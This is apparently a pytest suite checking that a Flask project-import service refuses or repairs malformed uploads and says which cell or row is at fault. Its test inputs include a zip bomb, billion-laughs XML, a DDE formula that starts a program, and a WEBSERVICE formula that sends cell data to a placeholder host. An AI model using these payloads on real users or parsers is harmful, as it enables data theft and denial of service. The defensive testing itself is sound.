"""Bad files by the page: refused, or put right and said, by file, sheet, row and cell; nothing written."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import shapely
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Connection, func, select
from sqlalchemy.orm import Session

from projects.models import Project, ProjectEvent, Update
from tests.app.imports.test_imports import bring, client, latest, officer, work
from tests.projects.imports.gis.files import BOW_TIE, POINT, make_frame, make_shapefile, shape_parts
from tests.projects.imports.gis.test_imported import geojson
from tests.projects.imports.sheets.files import repack
from tests.projects.imports.test_detection import ole
from tests.support.imports import workbook
from tests.support.page import read
from tests.support.people import post
from tests.support.programs import Program

__all__ = ["client", "officer"]
KIND = ("双塔区", "能源", "谋划")
HEAD = "项目名称,县区,项目类型,项目状态,总投资(万元)\n"
LINE = "甲项目,双塔区,能源,谋划,5\n"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'


def spoilt_workbook(part: str, change: Callable[[bytes], bytes]) -> Callable[[Path], bytes]:
    """Return what makes a workbook with a part of it changed."""

    def make(folder: Path) -> bytes:
        path = folder / "a.xlsx"
        path.write_bytes(workbook([("甲项目", *KIND, 5)]))
        return repack(path, {part: change}).read_bytes()

    return make


def bomb(_folder: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", bytes(64 * 1024 * 1024))
    return buffer.getvalue()


def wide(_folder: Path) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("宽表")
    sheet.append(["名称"])
    sheet.append(list(range(16_000)))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def locked_zip(_folder: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("a.shp", b"x" * 50)
    data = bytearray(buffer.getvalue())
    # The bit that says that a part is encrypted, of the part and of the directory.
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + at] |= 1
    return bytes(data)


REFUSED: dict[str, tuple[Callable[[Path], bytes], tuple[str, ...]]] = {
    "炸弹.xlsx": (bomb, ("超过限度,没有解开",)),
    "笑声.xlsx": (
        spoilt_workbook("xl/worksheets/sheet1.xml", lambda found: LAUGHS + found.partition(b"?>")[2]),
        ("DOCTYPE",),
    ),
    "笑声.kml": (
        lambda _folder: LAUGHS + b'<kml xmlns="http://www.opengis.net/kml/2.2">&c;</kml>',
        ("DOCTYPE",),
    ),
    "空字符.csv": (lambda _folder: f"{HEAD}甲,\0双塔区,能源,谋划,5\n".encode(), ("[2]", "空字符")),
    "混合.csv": (
        lambda _folder: f"{HEAD}{LINE}".encode() + "乙项目甲,凌源市,能源,谋划,5\n".encode("gb18030"),
        ("[3]",),
    ),
    "一万六千列.xlsx": (wide, ("宽表!WQJ2", "16000", "500")),
    "网页.xls": (lambda _folder: b"<html><body><table><tr><td>1</td></tr></table>", ("其实是网页(HTML)",)),
    "加密.xlsx": (lambda _folder: ole("Root Entry", "EncryptedPackage", "EncryptionInfo"), ("有密码",)),
    "加密.zip": (locked_zip, ("密码",)),
    "没有传完.xlsx": (lambda _folder: workbook([("甲项目", *KIND, 5)])[:-400], ()),
    "空的.xlsx": (lambda _folder: workbook([], head=()), ()),
}


def count_all(session: Session) -> list[int | None]:
    """Return how many projects, updates and events there are."""
    return [session.scalar(select(func.count()).select_from(one)) for one in (Project, Update, ProjectEvent)]


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_nobody_should_send_is_refused_by_name_and_place(
    client: FlaskClient, session: Session, connection: Connection, tmp_path: Path, name: str
) -> None:
    make, said = REFUSED[name]
    address = bring(client, make(tmp_path), name).headers["Location"]
    work(connection)
    alert = read(client.get(address)).one("main [role=alert]").text
    for word in (name, *said):
        assert word in alert
    assert latest(session).state == "failed"
    assert count_all(session) == [0, 0, 0]


ROWS: dict[str, tuple[tuple[Any, ...], str, str]] = {
    "a formula that asks the web": (("甲项目", *KIND, '=WEBSERVICE("http://x/"&A1)'), "E2", "引用外部"),
    "a formula that starts a program": (("甲项目", *KIND, "=cmd|'/c calc'!A0"), "E2", "引用外部"),
    "a formula that failed": (("甲项目", *KIND, "=1/0"), "E2", ""),
    "a name of 300 characters": (("长" * 300, *KIND, 5), "A2", "太长"),
    "not a number": (("甲项目", *KIND, "NaN"), "E2", "NaN"),
    "endless": (("甲项目", *KIND, "1e999"), "E2", ""),
}


@pytest.mark.parametrize("case", ROWS)
def test_a_cell_that_cannot_be_is_told_with_its_address(
    client: FlaskClient, session: Session, connection: Connection, case: str
) -> None:
    row, cell, said = ROWS[case]
    address = bring(client, workbook([row])).headers["Location"]
    work(connection)
    page = read(client.get(address))
    (sentence,) = page.texts("tbody .is-warn")
    assert sentence.startswith(f"{cell}:")
    assert said in sentence
    assert "项目表 2" in page.one("tbody").text
    version = str(latest(session).version)
    assert post(client, f"{address}/apply", version=version, leave_out="1").status_code == 400
    assert count_all(session) == [0, 0, 0]


PLACES: dict[str, tuple[dict[str, Any], str]] = {
    "not a number": ({"type": "Point", "coordinates": [float("nan"), 41.57]}, "不是数"),
    "swapped": ({"type": "Point", "coordinates": [41.57, 120.45]}, "写反"),
    "endless": ({"type": "Point", "coordinates": [120.45, float("inf")]}, "不是数"),
    "far away": ({"type": "Point", "coordinates": [116.4, 39.9]}, "太远"),
    "no line": ({"type": "LineString", "coordinates": [[120.45, 41.57]]}, "没有坐标"),
}


@pytest.mark.parametrize("case", PLACES)
def test_a_place_that_cannot_be_is_told_with_its_row(
    client: FlaskClient, session: Session, connection: Connection, case: str
) -> None:
    shape, said = PLACES[case]
    address = bring(client, geojson(shape), "地块.geojson").headers["Location"]
    work(connection)
    page = read(client.get(address))
    assert page.texts("tbody .chip") == ["有误"]
    assert said in page.one("tbody .is-warn").text
    assert count_all(session) == [0, 0, 0]


def test_an_area_that_crosses_itself_is_repaired_and_said(
    client: FlaskClient, connection: Connection
) -> None:
    shape = shapely.affinity.scale(BOW_TIE, 0.1, 0.1, origin=POINT)
    address = bring(client, geojson(shape), "地块.geojson").headers["Location"]
    work(connection)
    page = read(client.get(address))
    assert page.texts("tbody .chip") == ["新增"]
    assert "已修复" in page.one("main").text


def test_a_shapefile_without_its_index_is_read_and_that_is_said(
    client: FlaskClient, connection: Connection, tmp_path: Path
) -> None:
    columns = {"名称": ["冷链园"], "县区": ["双塔区"], "类型": ["能源"], "状态": ["谋划"]}
    parts = shape_parts(tmp_path, make_frame(columns))
    content = make_shapefile(tmp_path, parts, without=(".shx",)).read_bytes()
    address = bring(client, content, "项目.zip").headers["Location"]
    work(connection)
    page = read(client.get(address))
    assert page.texts("tbody .chip") == ["新增"]
    assert ".shx" in page.one("main").text


def test_ten_million_empty_rows_cost_nothing(
    empty_app: Flask, session: Session, connection: Connection
) -> None:
    program = Program(empty_app.test_client(), session, "li", "reviewer", ("211300",))
    content = HEAD.encode() + b"\n" * 10_000_000 + LINE.encode()
    address = program.send_form("/imports", {"file": ("空行.csv", content)}).headers["Location"]
    work(connection)
    told = program.client.get(f"{address}/rows", headers=program.headers).get_json()
    assert [(row["verdict"], row["row"]) for row in told["rows"]] == [("new", 10_000_002)]


def test_json_that_nests_without_end_is_refused(
    client: FlaskClient, session: Session, connection: Connection
) -> None:
    deep = "[" * 100_000
    content = json.dumps({"type": "FeatureCollection", "features": []})[:-2].encode() + deep.encode()
    address = bring(client, content, "深.geojson").headers["Location"]
    work(connection)
    assert "深.geojson" in read(client.get(address)).one("main [role=alert]").text
    assert latest(session).state == "failed"
